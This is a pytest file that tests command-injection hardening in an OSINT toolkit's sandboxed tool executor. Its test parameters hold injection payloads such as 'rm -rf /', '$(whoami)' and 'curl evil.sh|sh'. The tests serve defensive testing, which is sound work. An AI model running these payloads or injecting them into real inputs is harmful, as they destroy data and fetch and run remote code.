"""
Command-injection hardening.

Tools always run from argv lists; these tests pin down the second layer that
scrubs user-derived arguments before they reach a container entrypoint.
"""
import pytest

from osintforge.errors import ValidationError
from osintforge.toolkit.executor import SandboxedToolExecutor
from osintforge.toolkit.sanitize import (
    SHELL_METACHARACTERS,
    reject_metacharacters,
    render_command,
    sanitize_argument,
)
from osintforge.toolkit.tools import DOMAIN_HARVEST, USERNAME_SEARCH


@pytest.mark.parametrize(
    "payload,expected",
    [
        ("twitter; rm -rf /", "twitter rm -rf /"),
        ("$(whoami)", "whoami"),
        ("`id`", "id"),
        ("a && b || c", "a  b  c"),
        ("x > /etc/passwd", "x  /etc/passwd"),
        ("{a,b}[0]", "a,b0"),
        ("line\nbreak\x00", "linebreak"),
    ],
)
def test_sanitize_strips_metacharacters(payload, expected):
    cleaned = sanitize_argument(payload)
    assert cleaned == expected
    assert not set(cleaned) & SHELL_METACHARACTERS


def test_plain_values_pass_through():
    for value in ("johndoe", "example.com", "+14155552671", "someone@example.com", "https://proxy:8080"):
        assert sanitize_argument(value) == value


def test_reject_metacharacters():
    reject_metacharacters(["safe", "also-safe"])
    with pytest.raises(ValidationError) as exc_info:
        reject_metacharacters(["fine", "bad|pipe"], field="sites")
    assert "sites" in exc_info.value.message
    assert "|" in exc_info.value.message


def test_render_command_quotes_each_argument():
    rendered = render_command(["docker", "run", "img", "it's here", "$(x)"])
    assert rendered == "docker run img 'it'\"'\"'s here' '$(x)'"


def test_unvalidated_list_items_are_scrubbed(make_sandbox):
    executor = SandboxedToolExecutor(USERNAME_SEARCH, make_sandbox())
    params = executor.validate({"username": "johndoe", "sites": ["twitter;curl evil.sh|sh", "github"]})
    argv = list(executor.build_request(params).command)
    assert "--site" in argv
    site_arg = argv[argv.index("--site") + 1]
    assert site_arg == "twittercurl evil.shsh,github"


def test_domain_sources_are_scrubbed(make_sandbox):
    executor = SandboxedToolExecutor(DOMAIN_HARVEST, make_sandbox())
    params = executor.validate({"domain": "example.com", "sources": ["google`reboot`"]})
    argv = list(executor.build_request(params).command)
    assert argv[argv.index("-b") + 1] == "googlereboot"


@pytest.mark.parametrize("username", ["john;id", "$(id)", "a|b", "`id`", "john doe"])
def test_username_schema_rejects_injection(make_sandbox, username):
    executor = SandboxedToolExecutor(USERNAME_SEARCH, make_sandbox())
    with pytest.raises(ValidationError):
        executor.validate({"username": username})
